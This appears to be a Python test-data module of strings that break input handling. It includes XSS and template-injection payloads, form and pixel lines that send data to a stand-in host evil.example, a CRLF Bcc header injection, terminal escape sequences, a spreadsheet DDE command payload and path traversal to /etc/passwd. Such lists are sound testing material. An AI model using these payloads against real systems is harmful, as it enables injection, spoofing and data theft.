"""Texts that break things: what strangers send to forms, and what honest people's names hold."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=pm_token>",
    "</form></details></body></html>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}",
    "${7*7}",
    "{news} {plan} {0.__class__}",
    "%s%n%x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "__proto__",
    "constructor",
    "</style><script>alert(1)</script>",
)
"""Markup, templates, addresses."""

SIGNS = (
    "\u202eevil\u202c",
    "\u2066hidden\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "nul\0byte",
    "bell\a back\b escape\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m\x9d",
    "line\r\nBcc: victim@example.com\r\n\r\nbody",
    "line\nnext\u2028next\u2029next\u0085next",
    "tab\tand  spaces   ",
    "Z̸̢̛͕̻͚̘͍͔̦̤̰̀͛͂a̷̧̨̛͙̝̯̣̬͒̃̌͘͝l̶̡̛̤͓̗̯̳̮̇g̵̡̢̨̛͙͙̗̈́o",
    "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 ✊🏽",
    "ﷺ﷽𒐫",
    "Ω≈ç√∫˜µ≤≥÷åß∂ƒ©˙∆˚¬…æ",
    "田中さんにあげて下さい",
    "الكل في المجمو عة",
    "\U0010ffff\ud7ff\ue000\ufffd",
    "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
)
"""Signs that turn text around, hide it, or command a terminal; and honest ones that are often mangled."""

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("https://evil.example")', "\t=1", "\r=1", "＝1+1", "'=1", "''", '=cmd|"/c calc"!A1')
"""What a spreadsheet would reckon with."""

PATHS = ("../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "CON", "file\0.pdf", ".env", "a/b/c", "~root", "")
NUMBERS = ("0", "-1", "1e309", "NaN", "null", "undefined", "true", "[]", "{}", "1/0", "9" * 400)
EVERY = (*MARKUP, *SIGNS, *FORMULAS, *PATHS, *NUMBERS)
